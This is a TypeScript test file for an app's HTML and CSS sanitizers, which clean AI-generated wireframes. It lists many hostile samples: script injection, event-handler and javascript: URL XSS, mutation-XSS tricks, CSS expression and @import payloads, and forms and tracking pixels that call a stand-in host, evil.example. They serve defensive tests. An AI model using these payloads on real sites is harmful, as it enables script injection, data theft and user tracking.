import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { lendingLibraryModel } from '../../../test/support/lending-library-model.js';
import { emptyProjectModel, projectModelSchema, type AttributeType } from '../project-model/index.js';
import { composeWireframe, wireframeTemplateTypes } from './ai/generate-wireframe/index.js';
import { sanitizeCss } from './css-sanitizer.js';
import { sanitizeHtml, sanitizeWireframe } from './html-sanitizer.js';

/**
 * "Inert" checked on the parsed result, not on strings: no script or embedding element, no event handler, no
 * attribute that could fetch or navigate anywhere, no style that loads or runs something.
 */
function inertProblems(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const problems: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.localName;
    if (['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'base', 'link', 'meta', 'foreignobject'].includes(tag)) problems.push(`<${tag}>`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      if (name.startsWith('on')) problems.push(`${name} on <${tag}>`);
      if (['href', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'srcset', 'ping', 'cite', 'longdesc'].includes(name) && !value.startsWith('#')) {
        problems.push(`${name}=${value} on <${tag}>`);
      }
      if (name === 'src' && !/^data:image\//i.test(value)) problems.push(`src=${value} on <${tag}>`);
      if (name === 'style' && /url\s*\(|expression\s*\(|@import|behavior\s*:|-moz-binding/i.test(value)) problems.push(`style=${value}`);
      if (name === 'http-equiv') problems.push('http-equiv');
      if (name !== 'style' && /url\s*\(\s*['"]?(?!#)/i.test(value)) problems.push(`${name}=${value} on <${tag}>`);
    }
    if (tag === 'style' && /@import|url\s*\((?!\s*['"]?data:image\/)|expression\s*\(/i.test(element.textContent ?? '')) problems.push(`<style>${element.textContent}`);
  }
  return problems;
}

const hostile: Array<[string, string, RegExp?]> = [
  ['script element', '<p>Hi</p><script>alert(1)</script>', /<script> element/],
  ['script with src', '<script src="https://evil.example/x.js"></script><p>Hi</p>', /<script>/],
  ['img onerror', '<img src=x onerror="alert(1)">', /onerror/],
  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
  ['svg onload', '<svg onload="alert(1)"><rect width="1" height="1"></rect></svg>', /onload/],
  ['mixed-case event handler', '<div OnMouseOver="alert(1)">x</div>', /onmouseover/],
  ['javascript: href', '<a href="javascript:alert(1)">x</a>', /javascript: URL/],
  ['mixed-case javascript with entities and whitespace', '<a href=" JaVa&#x09;ScRiPt&#58;alert(1)">x</a>', /javascript: URL/],
  ['javascript with newline inside', '<a href="java\nscript:alert(1)">x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>', /vbscript: URL/],
  ['data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data: URL/],
  ['external image', '<img src="http://evil.example/track.png">', /http:\/\/evil\.example\/track\.png/],
  ['protocol-relative image', '<img src="//evil.example/t.png">'],
  ['relative image (would hit the app server)', '<img src="/api/v1/me">'],
  ['data:text in img src', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['external stylesheet link', '<link rel="stylesheet" href="http://evil.example/a.css"><p>x</p>', /<link>/],
  ['@import in style element', '<style>@import url(http://evil.example/a.css); p { color: red }</style><p>x</p>', /@import/],
  ['@import with a bare string', '<style>@import "http://evil.example/a.css";</style><p>x</p>', /@import/],
  ['background url in style attribute', '<div style="background:url(http://evil.example/x.png)">x</div>', /style attribute/],
  ['escaped url in style element', '<style>p { background: \\75 rl(http://evil.example/x.png) }</style><p>x</p>', /url\(\)/],
  ['image-set in style element', '<style>p { background-image: image-set("http://evil.example/x.png" 1x) }</style><p>x</p>', /image-set/],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example"><p>x</p>', /<meta>/],
  ['base href', '<base href="http://evil.example/"><a href="#x">x</a>', /<base>/],
  ['iframe', '<iframe src="http://evil.example"></iframe><p>x</p>', /<iframe>/],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe>/],
  ['object', '<object data="http://evil.example/x.swf"></object>', /<object>/],
  ['embed', '<embed src="http://evil.example/x.swf">', /<embed>/],
  ['svg script', '<svg><script>alert(1)</script><circle r="4"></circle></svg>', /<script>/],
  ['svg xlink javascript', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg use of an external sprite', '<svg><use href="http://evil.example/s.svg#i"></use></svg>'],
  ['form posting elsewhere', '<form action="http://evil.example/collect"><input><button>Go</button></form>', /action on <form>/],
  ['button formaction', '<form><button formaction="http://evil.example">Go</button></form>', /formaction/],
  ['srcset', '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x" alt="a">', /srcset/],
  ['video poster', '<video poster="http://evil.example/p.png"></video>', /poster/],
  ['table background', '<table background="http://evil.example/b.png"><tbody><tr><td>x</td></tr></tbody></table>', /background on <table>/],
  ['css expression', '<style>p { width: expression(alert(1)) }</style><p>x</p>', /expression/],
  ['expression in style attribute', '<p style="width: expression(alert(1))">x</p>', /style attribute/],
  ['-moz-binding', '<style>p { -moz-binding: url(http://evil.example/x.xml#a) }</style><p>x</p>'],
  ['behavior', '<p style="behavior: url(x.htc)">x</p>'],
  ['closing the style element early', '<style>p{color:red}</style ><style>p{}</style><img src=x onerror=alert(1)>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['math/mglyph mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['a ping', '<a href="#x" ping="http://evil.example/ping">x</a>', /ping/],
  ['svg fill pointing at an external resource', '<svg><rect width="4" height="4" fill="url(http://evil.example/p.svg#g)" filter="url(\'https://evil.example/f.svg#f\')"></rect></svg>', /external url\(\)/],
  ['input image', '<input type="image" src="http://evil.example/b.png">'],
];

describe('html sanitizer: hostile markup comes out inert', () => {
  it.each(hostile)('%s', (_name, input, reported) => {
    const result = sanitizeHtml(input);
    expect(inertProblems(result.html)).toEqual([]);
    expect(result.removed.length).toBeGreaterThan(0);
    if (reported) expect(result.removed.join('\n')).toMatch(reported);
  });

  it('keeps fragment links and data images, which load nothing', () => {
    const html = '<a href="#details">Details</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">';
    expect(sanitizeHtml(html)).toEqual({ html, removed: [] });
  });

  const benign = [
    '<header class="top"><nav aria-label="Main"><a href="#">Home</a> <a href="#shifts">Shifts</a></nav></header>',
    '<main><h1>Shifts</h1><p>Every <strong>shift</strong> &amp; its <em>date</em> &lt;soon&gt;.</p></main>',
    '<table class="wf-table"><thead><tr><th scope="col">Date</th><th scope="col">Location</th></tr></thead><tbody><tr><td>12 Mar</td><td>North Hall</td></tr></tbody></table>',
    '<form class="f"><label for="wf-date">Date</label><input id="wf-date" type="date"><select><option>Any</option></select><textarea rows="3"></textarea><button type="button">Save</button></form>',
    '<style>.card{border:1px solid #ccc;padding:8px}@media (max-width:600px){.card{padding:4px}}</style><div class="card" style="color: #333; margin: 0 auto">x</div>',
    '<svg viewBox="0 0 10 10" width="10" height="10"><rect x="1" y="1" width="8" height="8" fill="#ddd"></rect></svg>',
    '<svg width="10" height="10"><defs><linearGradient id="wf-g"><stop offset="0" stop-color="#eee"></stop></linearGradient></defs><rect width="10" height="10" fill="url(#wf-g)"></rect></svg>',
    '<ul><li>One</li><li>Two</li></ul><dl><dt>Key</dt><dd>Value</dd></dl><div role="img" aria-label="Chart" data-kind="bar"></div>',
  ];
  it.each(benign)('benign markup survives intact: %s', (html) => {
    expect(sanitizeHtml(html)).toEqual({ html, removed: [] });
  });
});

describe('css sanitizer', () => {
  it('drops imports, external urls, expressions, bindings and </style, and says so', () => {
    const css = [
      '@import url("http://evil.example/a.css");',
      '.a { background: url(http://evil.example/x.png) no-repeat; color: red }',
      '.b { background-image: url("data:image/png;base64,iVBORw0KGgo=") }',
      '.c { width: expression(alert(1)); height: 2px }',
      '.d { -moz-binding: url(x.xml#y); behavior: url(y.htc) }',
      '.e::after { content: "</style><script>alert(1)</script>" }',
    ].join('\n');
    const result = sanitizeCss(css);
    expect(result.css).not.toMatch(/@import|evil|expression|moz-binding|behavior|<\/style/i);
    // A stylesheet that needed cleaning is generated again, compact; "<" in a string becomes the escape \3c.
    expect(result.css).toContain('url(data:image/png;base64,iVBORw0KGgo=)');
    expect(result.css).toContain('color:red');
    expect(result.css).toContain('height:2px');
    expect(result.css).toContain('content:"\\3c /style>\\3c script>alert(1)\\3c /script>"');
    expect(result.removed).toHaveLength(5);
  });

  it('leaves ordinary CSS unchanged', () => {
    const css = '.x{display:grid;grid-template-columns:repeat(2,1fr);font:14px/1.4 system-ui,"Segoe UI",sans-serif}\n@media (max-width:640px){.x{display:block}}';
    expect(sanitizeCss(css)).toEqual({ css, removed: [] });
  });

  it('reports CSS removals along with the HTML ones when a wireframe is saved', () => {
    const result = sanitizeWireframe({ html: '<p>x</p>', css: '@import "http://evil.example/a.css"; p{color:red}' });
    expect(result.html).toBe('<p>x</p>');
    expect(result.removed).toEqual([expect.stringMatching(/@import.*\(in the CSS\)$/)]);
  });
});

describe('the offline wireframe writer and the sanitizer', () => {
  const word = fc.stringMatching(/^[a-z]{3,10}$/);
  const sentence = fc.array(word, { minLength: 3, maxLength: 12 }).map((words) => `${words.join(' ')}.`);
  const idea = fc.oneof(
    fc.array(sentence, { minLength: 1, maxLength: 6 }).map((sentences) => sentences.join(' ')),
    fc.constant('Dog owners book walkers for their dogs. Each walk has a date, a duration and a price. Walkers must confirm each booking.'),
    fc.string({ minLength: 1, maxLength: 300 }).filter((s) => s.trim().length > 0),
  );
  const screen = fc.option(fc.oneof(fc.constantFrom('Sign in', 'Dashboard', 'Walk list', 'New booking', 'Invoice details'), fc.string({ minLength: 1, maxLength: 40 }).filter((s) => s.trim().length > 0)), { nil: undefined });

  const attributeTypes: AttributeType[] = ['text', 'long_text', 'number', 'money', 'boolean', 'date', 'datetime', 'duration', 'email', 'phone', 'url', 'location', 'file', 'enum', 'reference'];
  // Names a person may type in the Model tab, markup and entities included.
  const name = fc.oneof(word, fc.constantFrom('<b>x</b>', '"quoted" & <i>', 'location', 'title', '__proto__', 'Ünïcode 漢字'), fc.string({ minLength: 1, maxLength: 30 }).filter((s) => s.trim().length > 0));
  const model = fc.oneof(
    fc.constant(emptyProjectModel()),
    fc.constant(lendingLibraryModel()),
    fc
      .record({
        entities: fc.array(
          fc.record({
            id: fc.constantFrom('a', 'b', 'c'),
            name,
            attributes: fc.array(fc.record({ name, type: fc.constantFrom(...attributeTypes), values: fc.array(name, { maxLength: 3 }), references: fc.constantFrom('a', 'b') }), { maxLength: 6 }),
            states: fc.array(name, { maxLength: 3 }),
          }),
          { maxLength: 3 },
        ),
        actors: fc.array(fc.record({ id: fc.constantFrom('p', 'q'), name, kind: fc.constantFrom('person', 'system') }), { maxLength: 2 }),
        metrics: fc.array(fc.record({ id: fc.constantFrom('m'), name, target: name }), { maxLength: 2 }),
        useCases: fc.array(fc.record({ id: fc.constantFrom('u'), name, actor: fc.constant('p'), action: name, entity: fc.constantFrom('a', 'b') }), { maxLength: 2 }),
      })
      .map((raw) => projectModelSchema.parse(raw)),
  );

  it('always writes HTML the sanitizer leaves unchanged, for every template', () => {
    fc.assert(
      fc.property(
        fc.string({ minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0),
        idea,
        screen,
        fc.option(fc.constantFrom(...wireframeTemplateTypes), { nil: undefined }),
        model,
        (projectName, text, screenName, templateType, projectModel) => {
          const output = composeWireframe({
            projectName: projectName.trim(),
            idea: text.trim(),
            model: projectModel,
            ...(screenName ? { screen: screenName.trim() } : {}),
            ...(templateType ? { templateType } : {}),
          });
          const sanitized = sanitizeHtml(output.html);
          expect(sanitized.removed).toEqual([]);
          expect(sanitized.html).toBe(output.html);
          expect(sanitizeCss(output.css)).toEqual({ css: output.css, removed: [] });
          expect(output.html).toMatch(/<h1>[^<]+<\/h1>/);
        },
      ),
      { numRuns: 60 },
    );
  });
});
